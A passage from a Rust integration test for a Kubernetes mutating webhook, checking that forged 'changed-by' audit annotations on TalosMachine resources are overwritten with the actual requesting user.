            "clientConfig": {"url": format!("https://127.0.0.1:{port}{MUTATE_CHANGED_BY_PATH}")},
            "rules": [{"apiGroups": ["ichor.maesh.dev"], "apiVersions": ["v1alpha1"],
                "operations": ["CREATE", "UPDATE"], "resources": ["talosclusters", "talosmachines"]}],
            "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": ns}},
            "sideEffects": "None", "admissionReviewVersions": ["v1"], "failurePolicy": "Fail",
            "reinvocationPolicy": "Never", "timeoutSeconds": 10
        }]
    }))
    .unwrap();
    for w in mwc.webhooks.as_mut().unwrap() {
        w.client_config.ca_bundle = Some(ByteString(cert.0.clone().into_bytes()));
    }
    let mwcs = Api::<MutatingWebhookConfiguration>::all(client.clone());
    mwcs.create(&PostParams::default(), &mwc).await.unwrap();

    let rules = json!([{"apiGroups": ["ichor.maesh.dev"], "resources": ["talosmachines"],
        "verbs": ["get", "create", "patch", "update"]}]);
    for user in ["alice", "bob", "mallory"] {
        grant(&client, &ns, user, rules.clone()).await;
    }
    let forged = serde_json::to_string(&ChangedBy {
        user: "someone-else".into(),
        at: "2020-01-01T00:00:00Z".into(),
    })
    .unwrap();
    let machine = json!({
        "apiVersion": "ichor.maesh.dev/v1alpha1", "kind": "TalosMachine",
        "metadata": {"name": "w1", "namespace": ns, "annotations": {CHANGED_BY_ANNOTATION: forged}},
        "spec": {"clusterRef": {"name": "base"}, "role": "worker", "address": "10.5.0.9", "hold": true}
    });
    let machines_as = |c: kube::Client| {
        Api::<kube::api::DynamicObject>::namespaced_with(
            c,
            &ns,
            &kube::api::ApiResource::erase::<ichor_api::TalosMachine>(&()),
        )
    };
    let stamped = |o: &kube::api::DynamicObject| -> Option<ChangedBy> {
        serde_json::from_str(
            o.metadata
                .annotations
                .as_ref()?
                .get(CHANGED_BY_ANNOTATION)?,
        )
        .ok()
    };
    let alice = machines_as(as_user(env, "alice").await);
    let dry = PostParams {
        dry_run: true,
        ..Default::default()
    };
    let object: kube::api::DynamicObject = serde_json::from_value(machine).unwrap();
    wait_for("the API server to call the mutating webhook", || async {
        alice
            .create(&dry, &object)
            .await
            .ok()
            .and_then(|o| stamped(&o))
            .is_some_and(|by| by.user == "alice")
    })
    .await;
    let created = alice.create(&PostParams::default(), &object).await.unwrap();
    assert_eq!(stamped(&created).unwrap().user, "alice");

    let bob = machines_as(as_user(env, "bob").await);
    let changed = bob
        .patch(
            "w1",
            &PatchParams::default(),
            &Patch::Merge(
                &json!({"metadata": {"annotations": {CHANGED_BY_ANNOTATION: forged}},
                "spec": {"hold": false}}),
            ),
        )
        .await
        .unwrap();
    let by_bob = stamped(&changed).unwrap();
    assert_eq!(by_bob.user, "bob", "a spec change with a forged stamp");

    let mallory = machines_as(as_user(env, "mallory").await);
    let forged_only = mallory
        .patch(
            "w1",
            &PatchParams::default(),
            &Patch::Merge(&json!({"metadata": {"annotations": {CHANGED_BY_ANNOTATION: forged}}})),
        )
        .await
        .unwrap();
    assert_eq!(
        stamped(&forged_only),
        Some(by_bob),
        "an annotation-only change is put back"
    );

    mwcs.delete(&format!("ichor-test-{ns}"), &DeleteParams::default())
        .await
        .unwrap();
    running.stop().await.unwrap();
}
